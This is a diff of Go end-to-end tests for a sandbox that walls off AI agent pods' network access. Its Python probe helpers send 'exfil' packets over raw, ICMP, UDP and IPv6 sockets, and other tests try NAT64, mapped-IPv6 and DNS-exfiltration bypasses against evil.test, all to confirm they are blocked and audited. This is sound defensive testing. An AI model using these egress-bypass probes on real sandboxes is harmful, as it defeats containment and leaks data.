@@ -10,8 +10,12 @@ import (
 	"os"
 	"path/filepath"
 	"strings"
+	"syscall"
 	"testing"
 	"time"
+
+	"github.com/google/nftables"
+	"github.com/vishvananda/netlink"
 )
 
 // probe.py is the attacker's toolbox inside the pod: raw sockets, no
@@ -53,6 +57,40 @@ def udp(host, port):
     s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     s.sendto(b"exfil", (host, int(port)))
     return "sent"
+
+def udp6(host, port):
+    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
+    s.sendto(b"exfil", (host, int(port)))
+    return "sent"
+
+def raw(host):
+    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
+    s.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00", (host, 0))
+    return "sent"
+
+def raw6(host):
+    s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
+    s.sendto(b"\x80\x00\x00\x00\x00\x00\x00\x00", (host, 0))
+    return "sent"
+
+def rawudp(host):
+    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
+    s.sendto(b"\x30\x39\x27\x0f\x00\x0d\x00\x00exfil", (host, 0))
+    return "sent"
+
+def ping(host):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
+    s.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00", (host, 0))
+    return "sent"
+
+def packet():
+    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
+    s.bind(("lo", 0))
+    return "opened"
+
+def packetdgram():
+    s = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
+    return "opened"
 
 def unix(name):
     s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
@@ -452,35 +490,49 @@ func contains(list []string, s string) bool {
 	return false
 }
 
-// A published pod port is reachable from the host.
+// A published pod port is reachable from the host: on 127.0.0.1 when no
+// address is given (and on no other address of the host), for a dev server
+// bound to 127.0.0.1 or to ::1. Nothing listens once the pod stops.
 func TestNetPublish(t *testing.T) {
 	e := newEnv(t)
+	n := newInet(t)
 	e.must("init", "p")
-	port := freePort(t)
+	port, port6 := freePort(t), freePort(t)
 	e.write("served.txt", "served from the pod\n")
-	// The server stops when the test closes stdin.
-	r := e.start("run", "p", "-T", "-p", fmt.Sprintf("127.0.0.1:%d:8080", port), "--", "sh", "-c",
-		"/usr/bin/python3 -m http.server 8080 --bind 127.0.0.1 2>/dev/null & cat >/dev/null; kill $!")
-	url := fmt.Sprintf("http://127.0.0.1:%d/served.txt", port)
-	var body string
-	waitFor(t, func() bool {
-		resp, err := http.Get(url)
-		if err != nil {
-			return false
+	// The servers stop when the test closes stdin.
+	r := e.start("run", "p", "-T", "-p", fmt.Sprintf("%d:8080", port), "-p", fmt.Sprintf("127.0.0.1:%d:8081", port6), "--", "sh", "-c",
+		"/usr/bin/python3 -m http.server 8080 --bind 127.0.0.1 2>/dev/null & a=$!; /usr/bin/python3 -m http.server 8081 --bind ::1 2>/dev/null & b=$!; cat >/dev/null; kill $a $b")
+	for _, p := range []int{port, port6} {
+		url := fmt.Sprintf("http://127.0.0.1:%d/served.txt", p)
+		var body string
+		waitFor(t, func() bool {
+			resp, err := http.Get(url)
+			if err != nil {
+				return false
+			}
+			defer resp.Body.Close()
+			b, _ := io.ReadAll(resp.Body)
+			body = string(b)
+			return resp.StatusCode == 200
+		})
+		if body != "served from the pod\n" {
+			t.Errorf("published port %d served %q", p, body)
 		}
-		defer resp.Body.Close()
-		b, _ := io.ReadAll(resp.Body)
-		body = string(b)
-		return resp.StatusCode == 200
-	})
-	if body != "served from the pod\n" {
-		t.Errorf("published port served %q", body)
+	}
+	// The host's other addresses do not publish the pod (here: the host's
+	// side of the test internet).
+	if c, err := net.DialTimeout("tcp", net.JoinHostPort(n.host.String(), fmt.Sprint(port)), time.Second); err == nil {
+		c.Close()
+		t.Errorf("SECURITY: -p %d:8080 is reachable on %s, not only 127.0.0.1", port, n.host)
 	}
 	r.stop()
-	if c, err := net.DialTimeout("tcp", fmt.Sprintf("127.0.0.1:%d", port), time.Second); err == nil {
-		c.Close()
-		t.Errorf("port %d still published after the pod stopped", port)
+	for _, p := range []int{port, port6} {
+		if c, err := net.DialTimeout("tcp", fmt.Sprintf("127.0.0.1:%d", p), time.Second); err == nil {
+			c.Close()
+			t.Errorf("port %d still published after the pod stopped", p)
+		}
 	}
+	e.expect(2, "HOST_PORT:POD_PORT", "run", "p", "-T", "-p", "8080", "--", "true")
 }
 
 func freePort(t *testing.T) int {
@@ -557,4 +609,296 @@ func TestNetModeHost(t *testing.T) {
 		t.Errorf("status walls network in mode host: %q", st.Walls["network"])
 	}
 	e.wantAudit(e.audit("p"), "wall.network", "warning", "mode:host")
+}
+
+// Raw and packet sockets, pings, and UDP other than DNS, over IPv4 and
+// IPv6: none of it leaves the pod (the test internet counts arrivals).
+func TestNetRawPacketUDP(t *testing.T) {
+	e := newEnv(t)
+	n := newInet(t)
+	e.netConfig(n, "", "allowed.test")
+	e.must("init", "p")
+	got := e.runProbes("p", fmt.Sprintf(`
+p raw raw %[1]s
+p raw6 raw6 %[2]s
+p rawudp rawudp %[1]s
+p ping ping %[1]s
+p packet packet
+p packetdgram packetdgram
+p udp udp %[1]s 9999
+p quic udp %[1]s 443
+p ntp udp %[1]s 123
+p udp6 udp6 %[2]s 9999
+p udp-mapped udp6 ::ffff:%[1]s 9999
+p own-resolver udp %[1]s 5353
+`, n.web, n.web6))
+	for _, l := range []string{"raw", "raw6", "rawudp", "ping", "packet", "packetdgram", "udp", "quic", "ntp", "udp6", "udp-mapped", "own-resolver"} {
+		if !strings.HasPrefix(got[l], "error") {
+			t.Errorf("SECURITY %s: want an error, got %q", l, got[l])
+		}
+	}
+	time.Sleep(300 * time.Millisecond) // let any stray packet land
+	if k := n.strayCount(); k != 0 {
+		t.Errorf("SECURITY: %d packets reached the test internet", k)
+	}
+}
+
+// IPv6 goes through the same checks as IPv4: an allowed name with an AAAA
+// record works through the proxy and around it; IPv6 literals in every
+// form, and an allowed name sent to an IPv6 address it does not have, are
+// refused and audited.
+func TestNetIPv6(t *testing.T) {
+	e := newEnv(t)
+	n := newInet(t)
+	e.netConfig(n, "", "allowed.test", "*.allowed.test")
+	e.must("init", "p")
+	web, web6 := n.web.String(), n.web6.String()
+	got := e.runProbes("p", fmt.Sprintf(`
+c v6-proxy http://v6.allowed.test/
+c v6-proxy-https --cacert ca.pem https://v6.allowed.test/
+c v6-direct --noproxy '*' http://v6.allowed.test/
+c v6-direct-https --noproxy '*' --cacert ca.pem https://v6.allowed.test/
+c v6-lit-direct --noproxy '*' http://[%[2]s]/
+c v6-lit-proxy http://[%[2]s]/
+p v6-lit-connect pconnect [%[2]s]:443
+p v6-mapped-connect pconnect [::ffff:%[1]s]:80
+p v6-compat-connect pconnect [::%[1]s]:80
+p v6-nat64-connect pconnect [64:ff9b::%[1]s]:80
+p v6-nat64-direct direct 64:ff9b::%[1]s 80 allowed.test
+p v6-wrong-name direct %[2]s 80 allowed.test
+p v6-loop-connect pconnect [::1]:80
+p v6-linklocal direct fe80::1%%lo 80 v6.allowed.test
+`, web, web6))
+	for _, l := range []string{"v6-proxy", "v6-direct"} {
+		wantOK(t, got, l, "hello v6.allowed.test from web")
+	}
+	for _, l := range []string{"v6-proxy-https", "v6-direct-https"} {
+		wantOK(t, got, l, "hello v6.allowed.test from web")
+	}
+	wantCurlFail(t, got, "v6-lit-direct")
+	wantCurlFail(t, got, "v6-lit-proxy")
+	for _, l := range []string{"v6-lit-connect", "v6-mapped-connect", "v6-compat-connect", "v6-nat64-connect", "v6-loop-connect"} {
+		wantProbeFail(t, got, l)
+		if !strings.Contains(got[l], "403") {
+			t.Errorf("%s: CONNECT should be answered 403, got %q", l, got[l])
+		}
+	}
+	for _, l := range []string{"v6-nat64-direct", "v6-wrong-name", "v6-linklocal"} {
+		wantProbeFail(t, got, l)
+	}
+	evs := e.audit("p")
+	e.wantAudit(evs, "net.connect", "allow", "path:proxy", "host:v6.allowed.test", "addr:"+web6)
+	e.wantAudit(evs, "net.connect", "allow", "path:transparent", "host:v6.allowed.test", "addr:"+web6)
+	e.wantAudit(evs, "net.dns", "allow", "name:v6.allowed.test", web6)
+	e.wantAudit(evs, "net.leak", "deny", "addr:"+web6, "host:allowed.test")
+	e.wantAudit(evs, "net.leak", "deny", "addr:64:ff9b::", "host:allowed.test")
+	e.wantAudit(evs, "net.connect", "deny", "path:proxy", "host:"+web6)
+	e.wantAudit(evs, "net.leak", "deny", "addr:fe80::1", "link-local")
+	for _, lit := range []string{web6, "::ffff:" + web, "::" + web, "64:ff9b::" + web, "::1"} {
+		e.wantAudit(evs, "net.connect", "deny", "path:connect", "host:"+lit)
+	}
+}
+
+// The DNS modes: deny (everything but the deny list), monitor (everything,
+// logged) and allow with a wildcard (subdomains only). In each, names the
+// policy refuses never reach the authoritative server, and IP literals and
+// names that resolve to private addresses stay refused.
+func TestNetDNSModes(t *testing.T) {
+	for _, tc := range []struct {
+		mode, extra     string
+		allow           []string
+		works, refused  []string // names reached over http, through the proxy and around it
+		forwarded, kept []string // names the authoritative server must / must not see
+	}{
+		{mode: "deny", extra: "  deny: [evil.test, \"*.evil.test\"]\n",
+			works: []string{"open.test", "allowed.test"}, refused: []string{"evil.test", "x.evil.test"},
+			forwarded: []string{"open.test"}, kept: []string{"evil.test", "secret.evil.test"}},
+		{mode: "monitor", works: []string{"open.test", "evil.test"}, forwarded: []string{"evil.test"}},
+		{mode: "allow", allow: []string{"*.allowed.test"},
+			works: []string{"www.allowed.test"}, refused: []string{"allowed.test", "open.test"},
+			forwarded: []string{"www.allowed.test"}, kept: []string{"open.test", "secret.evil.test"}},
+	} {
+		t.Run(tc.mode, func(t *testing.T) {
+			e := newEnv(t)
+			n := newInet(t)
+			e.netConfigDNS(n, tc.mode, tc.extra, tc.allow...)
+			e.must("init", "p")
+			var script strings.Builder
+			for _, name := range append(append([]string{}, tc.works...), tc.refused...) {
+				fmt.Fprintf(&script, "c proxy-%[1]s http://%[1]s/\nc direct-%[1]s --noproxy '*' http://%[1]s/\n", name)
+			}
+			fmt.Fprintf(&script, "p exfil dnsq 127.0.0.1 udp secret.evil.test\n")
+			fmt.Fprintf(&script, "c literal --noproxy '*' http://%s/\nc rebind http://meta.allowed.test/\n", n.web)
+			got := e.runProbes("p", script.String())
+			for _, name := range tc.works {
+				wantOK(t, got, "proxy-"+name, "hello "+name+" from web")
+				wantOK(t, got, "direct-"+name, "hello "+name+" from web")
+			}
+			for _, name := range tc.refused {
+				wantCurlFail(t, got, "proxy-"+name)
+				wantCurlFail(t, got, "direct-"+name)
+			}
+			wantCurlFail(t, got, "literal")
+			wantCurlFail(t, got, "rebind")
+			seen := n.queries()
+			for _, name := range tc.forwarded {
+				if !contains(seen, name+".") {
+					t.Errorf("the authoritative server was not asked %s: %v", name, seen)
+				}
+			}
+			for _, name := range tc.kept {
+				for _, q := range seen {
+					if strings.Contains(q, name) {
+						t.Errorf("SECURITY: the authoritative server was asked %s in mode %s", q, tc.mode)
+					}
+				}
+			}
+			evs := e.audit("p")
+			for _, name := range tc.works {
+				e.wantAudit(evs, "net.dns", "allow", "name:"+name)
+				e.wantAudit(evs, "net.connect", "allow", "path:transparent", "host:"+name)
+			}
+			for _, name := range tc.refused {
+				e.wantAudit(evs, "net.connect", "deny", "path:proxy", "host:"+name)
+			}
+			if tc.mode == "monitor" {
+				e.wantAudit(evs, "net.dns", "allow", "name:secret.evil.test", "monitor")
+			} else {
+				e.wantAudit(evs, "net.dns", "deny", "name:secret.evil.test")
+			}
+		})
+	}
+}
+
+// Presets name the hosts an agent needs: a pod with the anthropic and npm
+// presets forwards their names (to the test's own upstream, which knows
+// none of them) and refuses a name no preset lists, without asking.
+func TestNetPresets(t *testing.T) {
+	e := newEnv(t)
+	n := newInet(t)
+	e.netConfig(n, "  presets: [anthropic, npm]\n", "allowed.test")
+	e.must("init", "p")
+	got := e.runProbes("p", `
+p anthropic dnsq 127.0.0.1 udp api.anthropic.com
+p npm dnsq 127.0.0.1 udp registry.npmjs.org
+p openai dnsq 127.0.0.1 udp api.openai.com
+`)
+	for _, l := range []string{"anthropic", "npm", "openai"} {
+		if !strings.Contains(got[l], "rcode=3") {
+			t.Errorf("%s: want NXDOMAIN (the test upstream knows no real name), got %q", l, got[l])
+		}
+	}
+	seen := strings.Join(n.queries(), " ")
+	for _, name := range []string{"api.anthropic.com.", "registry.npmjs.org."} {
+		if !strings.Contains(seen, name) {
+			t.Errorf("preset name %s was not forwarded: %s", name, seen)
+		}
+	}
+	if strings.Contains(seen, "openai") {
+		t.Errorf("SECURITY: api.openai.com, in no preset, was forwarded")
+	}
+	evs := e.audit("p")
+	e.wantAudit(evs, "net.dns", "allow", "name:api.anthropic.com")
+	e.wantAudit(evs, "net.dns", "deny", "name:api.openai.com")
+	var pol struct{ Presets []string }
+	if err := json.Unmarshal([]byte(e.must("net", "p", "ls", "--json").stdout), &pol); err != nil {
+		t.Fatal(err)
+	}
+	if !contains(pol.Presets, "anthropic") || !contains(pol.Presets, "npm") {
+		t.Errorf("net ls --json presets: %v", pol.Presets)
+	}
+}
+
+// A supervisor killed with SIGKILL leaves nothing of the network wall on
+// the host: no link, no network namespace, no nftables table, no published
+// port, no process of the pod; the pod runs again afterwards.
+func TestNetSupervisorKilled(t *testing.T) {
+	e := newEnv(t)
+	n := newInet(t)
+	e.netConfig(n, "", "allowed.test")
+	e.must("init", "p")
+	before := hostNetState(t)
+	port := freePort(t)
+	marker := fmt.Sprintf("airlock-e2e-%d", rand.Int64())
+	r := e.start("run", "p", "-T", "-p", fmt.Sprintf("%d:8080", port), "--", "sh", "-c",
+		`/usr/bin/python3 -m http.server 8080 --bind 127.0.0.1 >/dev/null 2>&1 & curl -fsS http://allowed.test/; cat`, marker)
+	if got := r.next(); !strings.Contains(got, "hello allowed.test") {
+		t.Fatalf("the pod's network did not work before the kill: %q", got)
+	}
+	waitFor(t, func() bool {
+		c, err := net.DialTimeout("tcp", fmt.Sprintf("127.0.0.1:%d", port), time.Second)
+		if err == nil {
+			c.Close()
+		}
+		return err == nil
+	})
+	if len(processesWith(marker)) == 0 {
+		t.Fatalf("no process of the pod carries the marker %s", marker)
+	}
+	if err := r.cmd.Process.Signal(syscall.SIGKILL); err != nil {
+		t.Fatal(err)
+	}
+	<-r.done
+	r.stdin = nil // nothing left to stop
+	waitFor(t, func() bool { return len(processesWith(marker)) == 0 })
+	if c, err := net.DialTimeout("tcp", fmt.Sprintf("127.0.0.1:%d", port), time.Second); err == nil {
+		c.Close()
+		t.Errorf("port %d still published after the supervisor was killed", port)
+	}
+	if after := hostNetState(t); after != before {
+		t.Errorf("the host's network changed:\nbefore: %s\nafter:  %s", before, after)
+	}
+	got := e.runProbes("p", "c again http://allowed.test/\n")
+	wantOK(t, got, "again", "hello allowed.test from web")
+}
+
+// hostNetState describes what a pod could leave on the host's network:
+// links, named network namespaces and nftables tables. The links of test
+// internets (alnt*, and nwt* of the netwall package's tests, which may run
+// at the same time) come and go on their own and are left out.
+func hostNetState(t *testing.T) string {
+	t.Helper()
+	links, err := netlink.LinkList()
+	if err != nil {
+		t.Fatal(err)
+	}
+	var b strings.Builder
+	b.WriteString("links:")
+	for _, l := range links {
+		if name := l.Attrs().Name; !strings.HasPrefix(name, "alnt") && !strings.HasPrefix(name, "nwt") {
+			b.WriteString(" " + name)
+		}
+	}
+	b.WriteString(" netns:")
+	if ents, err := os.ReadDir("/run/netns"); err == nil {
+		for _, e := range ents {
+			b.WriteString(" " + e.Name())
+		}
+	}
+	b.WriteString(" nft:")
+	c, err := nftables.New()
+	if err != nil {
+		t.Fatal(err)
+	}
+	tables, err := c.ListTables()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, tb := range tables {
+		fmt.Fprintf(&b, " %d/%s", tb.Family, tb.Name)
+	}
+	return b.String()
+}
+
+// processesWith lists the pids whose command line contains marker.
+func processesWith(marker string) []string {
+	ents, _ := os.ReadDir("/proc")
+	var out []string
+	for _, e := range ents {
+		cmdline, err := os.ReadFile(filepath.Join("/proc", e.Name(), "cmdline"))
+		if err == nil && strings.Contains(string(cmdline), marker) {
+			out = append(out, e.Name())
+		}
+	}
+	return out
 }
